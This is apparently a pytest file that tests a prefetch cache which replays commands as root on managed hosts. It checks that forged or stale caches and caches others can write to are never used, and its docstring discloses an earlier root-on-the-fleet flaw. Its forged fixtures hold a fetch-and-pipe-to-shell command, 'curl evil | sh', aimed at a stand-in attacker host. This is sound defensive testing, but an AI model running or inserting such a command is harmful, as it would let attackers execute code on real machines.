"""The prefetch cache replays commands on hosts as root: it is trusted no further than the checks.

It used to be sent verbatim to every host, so anyone who could write var/ got root on the fleet.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from driftvakt import prefetch_cache

PROJECT = Path(__file__).resolve().parents[2]


def _suites(tmp_path: Path) -> Path:
    suites = tmp_path / "suites"
    suites.mkdir()
    (suites / "test_ntp.py").write_text("def test_ntp(host): ...\n")
    return suites


def test_a_cache_written_by_these_checks_is_read_back(tmp_path: Path) -> None:
    digest = prefetch_cache.checks_digest(_suites(tmp_path))
    cache = tmp_path / "var" / "p.json"
    cache.parent.mkdir(mode=0o700)
    prefetch_cache.save(cache, digest, {"old": ["uname -a"]}, {"web1": ["chronyc -n sources"]})
    assert prefetch_cache.load(cache, digest) == {
        "old": ["uname -a"],
        "web1": ["chronyc -n sources"],
    }
    assert cache.stat().st_mode & 0o777 == 0o600


def test_changing_any_check_drops_the_cache(tmp_path: Path) -> None:
    suites = _suites(tmp_path)
    before = prefetch_cache.checks_digest(suites)
    cache = tmp_path / "p.json"
    prefetch_cache.save(cache, before, {}, {"web1": ["id"]})
    (suites / "test_ntp.py").write_text("def test_ntp(host): assert 1\n")
    after = prefetch_cache.checks_digest(suites)
    assert after != before
    assert prefetch_cache.load(cache, after) == {}


@pytest.mark.fault(
    "input",
    "a forged or stale prefetch cache",
    "never replayed on hosts (was: sent verbatim, as root)",
)
@pytest.mark.parametrize(
    "forged",
    [
        {"web1": ["curl evil | sh"]},  # the old format, or a hand-written file
        {"checks": "0" * 64, "hosts": {"web1": ["curl evil | sh"]}},
        {"checks": None, "hosts": {"web1": ["curl evil | sh"]}},
    ],
)
def test_a_cache_not_bound_to_these_checks_is_never_replayed(
    tmp_path: Path, forged: dict[str, object]
) -> None:
    digest = prefetch_cache.checks_digest(_suites(tmp_path))
    cache = tmp_path / "p.json"
    cache.write_text(json.dumps(forged))
    assert prefetch_cache.load(cache, digest) == {}


@pytest.mark.fault("input", "a prefetch cache others can write", "not used, one warning")
@pytest.mark.parametrize("which", ["file", "folder"])
def test_a_cache_others_could_write_is_not_used(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], which: str
) -> None:
    digest = prefetch_cache.checks_digest(_suites(tmp_path))
    folder = tmp_path / "var"
    folder.mkdir(mode=0o755)
    cache = folder / "p.json"
    prefetch_cache.save(cache, digest, {}, {"web1": ["id"]})
    (cache if which == "file" else folder).chmod(0o666 if which == "file" else 0o777)
    assert prefetch_cache.load(cache, digest) == {}
    assert "can be written by other users" in capsys.readouterr().err


def test_the_shipped_suites_have_a_stable_digest() -> None:
    suites = PROJECT / "tests"
    assert prefetch_cache.checks_digest(suites) == prefetch_cache.checks_digest(suites)
    assert len(prefetch_cache.checks_digest(suites)) == 64
